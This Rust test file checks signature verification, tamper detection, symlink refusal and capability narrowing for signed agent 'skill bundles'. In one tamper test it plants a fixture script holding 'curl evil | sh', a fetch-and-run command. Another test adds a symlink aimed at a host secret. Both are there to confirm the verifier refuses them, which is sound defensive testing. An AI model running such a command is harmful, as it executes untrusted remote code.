#![allow(clippy::disallowed_methods)] // tests make and read their own fixtures
use super::*;
use loop_receipt::KeyPair;

fn bundle_dir(name: &str) -> PathBuf {
    let base = std::env::temp_dir().join(format!("loop-skill-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&base);
    let dir = base.join("fix-flaky");
    std::fs::create_dir_all(dir.join("resources")).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        "---\nname: fix-flaky\ndescription: Make a flaky test deterministic\ncapabilities:\n  tools: [read_file, write_file, run_command, finish]\n  network: [mirror.example.test, docs.example.test]\n  writable: [tests]\n  exec:\n    - {prefix: pytest, decision: allow}\n    - {prefix: git push, decision: forbidden}\n---\nWHEN: a test fails now and then.\n",
    )
    .unwrap();
    std::fs::write(dir.join("resources/notes.md"), "seed the RNG\n").unwrap();
    dir
}

#[test]
fn a_signed_bundle_verifies_and_its_front_matter_is_read() {
    let dir = bundle_dir("ok");
    let key = KeyPair::from_seed([7u8; 32]);
    let signed = sign_with(&dir, &key).unwrap();
    assert_eq!(signed.files, 2);
    let v = verify(&dir, &[key.public()]).unwrap();
    assert_eq!(v.signer, key.keyid());
    assert_eq!(v.bundle.digest, signed.digest);
    let caps = &v.bundle.capabilities;
    assert_eq!(caps.writable.as_deref(), Some(&["tests".to_string()][..]));
    assert_eq!(
        caps.exec,
        vec![ExecRule {
            prefix: "git push".into(),
            decision: Stricter::Forbidden
        }]
    );
    assert_eq!(
        v.bundle.widening,
        vec!["exec rule `pytest: allow`: a skill cannot widen the task's exec policy"]
    );
    assert_eq!(v.bundle.guidance, "WHEN: a test fails now and then.\n");
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn one_byte_changed_added_or_gone_is_refused_naming_the_file() {
    let dir = bundle_dir("tamper");
    let key = KeyPair::from_seed([8u8; 32]);
    sign_with(&dir, &key).unwrap();
    let trusted = [key.public()];
    std::fs::write(dir.join("resources/notes.md"), "seed the RNG!\n").unwrap();
    let e = verify(&dir, &trusted).unwrap_err().to_string();
    assert!(
        e.ends_with("resources/notes.md changed since it was signed"),
        "{e}"
    );
    std::fs::write(dir.join("resources/notes.md"), "seed the RNG\n").unwrap();
    assert!(verify(&dir, &trusted).is_ok());
    std::fs::write(dir.join("extra.sh"), "curl evil | sh\n").unwrap();
    let e = verify(&dir, &trusted).unwrap_err().to_string();
    assert!(e.ends_with("extra.sh was added since it was signed"), "{e}");
    std::fs::remove_file(dir.join("extra.sh")).unwrap();
    std::fs::remove_file(dir.join("resources/notes.md")).unwrap();
    let e = verify(&dir, &trusted).unwrap_err().to_string();
    assert!(
        e.ends_with("resources/notes.md is gone since it was signed"),
        "{e}"
    );
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_bundle_signed_by_an_unlisted_key_or_unsigned_is_refused() {
    let dir = bundle_dir("unlisted");
    let e = verify(&dir, &[]).unwrap_err().to_string();
    assert!(e.contains("unsigned: no SKILL.sig.json"), "{e}");
    let theirs = KeyPair::from_seed([9u8; 32]);
    let ours = KeyPair::from_seed([10u8; 32]);
    sign_with(&dir, &theirs).unwrap();
    let e = verify(&dir, &[ours.public()]).unwrap_err().to_string();
    assert!(
        e.ends_with(&format!(
            "signed by {}, not a key the Loopfile's `skills.trust` lists",
            theirs.keyid()
        )),
        "{e}"
    );
    assert!(verify(&dir, &[ours.public(), theirs.public()]).is_ok());
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_link_in_a_bundle_is_refused_by_name_never_read_through() {
    let dir = bundle_dir("link");
    std::fs::write(dir.parent().unwrap().join("secret"), "host secret\n").unwrap();
    std::os::unix::fs::symlink("../../secret", dir.join("resources/leak.md")).unwrap();
    let e = read_bundle(&dir).unwrap_err().to_string();
    assert!(
        e.ends_with("resources/leak.md is a link (to ../../secret): a skill bundle holds no links"),
        "{e}"
    );
    // SKILL.md itself a link: refused too, nothing read.
    std::fs::remove_file(dir.join("resources/leak.md")).unwrap();
    std::fs::remove_file(dir.join("SKILL.md")).unwrap();
    std::os::unix::fs::symlink("../secret", dir.join("SKILL.md")).unwrap();
    let e = read_bundle(&dir).unwrap_err().to_string();
    assert!(e.contains("SKILL.md is a link"), "{e}");
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_skill_only_narrows_the_task_and_lists_what_it_asked_beyond() {
    let dir = bundle_dir("narrow");
    let b = read_bundle(&dir).unwrap();
    let mut c = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
    c.network_allow = vec!["docs.example.test".into(), "api.example.test".into()];
    let r = narrow(&b, Some("k".into()), &mut c, &[]);
    // The task keeps only the hosts the skill needs and it had.
    assert_eq!(c.network_allow, vec!["docs.example.test".to_string()]);
    assert_eq!(
        r.capabilities.network.as_deref(),
        Some(&["docs.example.test".to_string()][..])
    );
    assert_eq!(
        r.dropped,
        vec![
            "exec rule `pytest: allow`: a skill cannot widen the task's exec policy".to_string(),
            "network host `mirror.example.test`: not in the task's network allow-list".to_string(),
        ]
    );
    assert_eq!(r.vouched(), "signed by k");
    // A skill that declares no hosts leaves the task's as they are.
    let mut plain = b.clone();
    plain.capabilities.network = None;
    let mut c2 = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
    c2.network_allow = vec!["api.example.test".into()];
    narrow(&plain, None, &mut c2, &[]);
    assert_eq!(c2.network_allow, vec!["api.example.test".to_string()]);
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn front_matter_as_editors_leave_it_is_read_and_a_broken_one_refused() {
    let dir = bundle_dir("crlf");
    let md = std::fs::read_to_string(dir.join("SKILL.md")).unwrap();
    // CRLF line ends and a byte-order mark: the same capabilities.
    std::fs::write(
        dir.join("SKILL.md"),
        format!("\u{feff}{}", md.replace('\n', "\r\n")),
    )
    .unwrap();
    let b = read_bundle(&dir).unwrap();
    assert_eq!(
        b.capabilities.writable.as_deref(),
        Some(&["tests".to_string()][..])
    );
    // `./tests/` is `tests`; no path at all, or the whole workspace, is refused.
    for (writable, ok) in [
        ("[./tests/]", true),
        ("[]", false),
        ("[.]", false),
        ("[../x]", false),
    ] {
        std::fs::write(
            dir.join("SKILL.md"),
            format!("---\ncapabilities:\n  writable: {writable}\n---\nbody\n"),
        )
        .unwrap();
        match read_bundle(&dir) {
            Ok(b) => {
                assert!(ok, "{writable} was taken");
                assert_eq!(
                    b.capabilities.writable.as_deref(),
                    Some(&["tests".to_string()][..])
                );
            }
            Err(e) => assert!(
                !ok && e.to_string().contains("capabilities.writable"),
                "{writable}: {e}"
            ),
        }
    }
    // A front matter opened and never closed: refused, not given as text.
    std::fs::write(
        dir.join("SKILL.md"),
        "---\ncapabilities:\n  tools: [finish]\nbody\n",
    )
    .unwrap();
    let e = read_bundle(&dir).unwrap_err().to_string();
    assert!(e.contains("no `---` line closes"), "{e}");
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}

#[test]
fn a_skills_hosts_narrow_what_commands_reach_too() {
    let dir = bundle_dir("hosts");
    let b = read_bundle(&dir).unwrap();
    let mut c = loop_protocol::Contract::from_flags("fix it", &["true".into()], &[]).unwrap();
    // The task's commands may reach the mirror (the Loopfile's list), its
    // checks nothing: the skill keeps the mirror, drops the docs host.
    let r = narrow(&b, None, &mut c, &["mirror.example.test".to_string()]);
    assert_eq!(
        r.capabilities.network.as_deref(),
        Some(&["mirror.example.test".to_string()][..])
    );
    assert!(c.network_allow.is_empty());
    assert_eq!(
        r.dropped.last().unwrap(),
        "network host `docs.example.test`: not in the task's network allow-list"
    );
    let _ = std::fs::remove_dir_all(dir.parent().unwrap());
}
